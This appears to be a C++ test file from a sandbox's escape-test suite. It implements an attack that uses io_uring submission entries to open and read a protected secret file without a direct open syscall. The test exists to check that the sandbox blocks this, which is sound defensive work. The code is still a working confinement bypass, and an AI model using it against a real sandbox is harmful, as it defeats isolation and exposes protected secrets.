// io_uring does operations without a system call for each: a file is opened by an entry in shared memory.

#include <fcntl.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>

#include "tests/escapes/escape.h"

namespace usher::escapes {
namespace USHER_ESCAPE_FILE {

template <typename T>
T* At(char* base, uint32_t offset) {
  return reinterpret_cast<T*>(base + offset);
}

int Attack(const World& world) {
  io_uring_params params{};
  const auto ring = static_cast<int>(syscall(SYS_io_uring_setup, 4, &params));
  if (ring < 0) return kCannotTry;
  const auto map = [&](size_t size, long offset) {
    return static_cast<char*>(mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset));
  };
  char* submissions = map(params.sq_off.array + params.sq_entries * sizeof(uint32_t), IORING_OFF_SQ_RING);
  char* completions = map(params.cq_off.cqes + params.cq_entries * sizeof(io_uring_cqe), IORING_OFF_CQ_RING);
  auto* entries = reinterpret_cast<io_uring_sqe*>(map(params.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
  const std::string name = world.secret();
  entries[0] = {};
  entries[0].opcode = IORING_OP_OPENAT;
  entries[0].fd = AT_FDCWD;
  entries[0].addr = reinterpret_cast<uint64_t>(name.c_str());
  At<uint32_t>(submissions, params.sq_off.array)[0] = 0;
  reinterpret_cast<std::atomic<uint32_t>*>(submissions + params.sq_off.tail)->store(1);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) return kCannotTry;
  const int fd = At<io_uring_cqe>(completions, params.cq_off.cqes)->res;
  char text[256];
  const ssize_t size = read(fd, text, sizeof(text));
  return size > 0 && Loot(world, std::string(text, static_cast<size_t>(size))) ? 0 : 1;
}

USHER_ESCAPE({.name = "e_io_uring", .row = "E: io_uring", .attack = &Attack, .escaped = &TookSecret});

}  // namespace USHER_ESCAPE_FILE
}  // namespace usher::escapes
